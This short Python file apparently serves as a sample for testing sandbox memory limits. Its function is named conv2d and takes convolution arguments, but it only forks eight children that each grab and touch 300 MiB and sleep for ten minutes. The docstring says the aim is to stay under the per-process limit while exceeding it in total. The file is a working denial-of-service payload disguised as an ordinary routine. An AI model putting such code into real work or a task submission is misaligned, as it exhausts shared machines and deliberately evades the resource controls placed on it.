"""Hoards memory in forked children: each one stays under the per-process address-space limit,
all of them together are far over it."""
import os
import time


def conv2d(X, W, b, stride=1, padding=0):
    for _ in range(8):
        if os.fork() == 0:
            try:
                hoard = bytearray(300 * 2**20)
                for i in range(0, len(hoard), 4096):
                    hoard[i] = 1
                time.sleep(600)
            finally:
                os._exit(0)
    time.sleep(600)
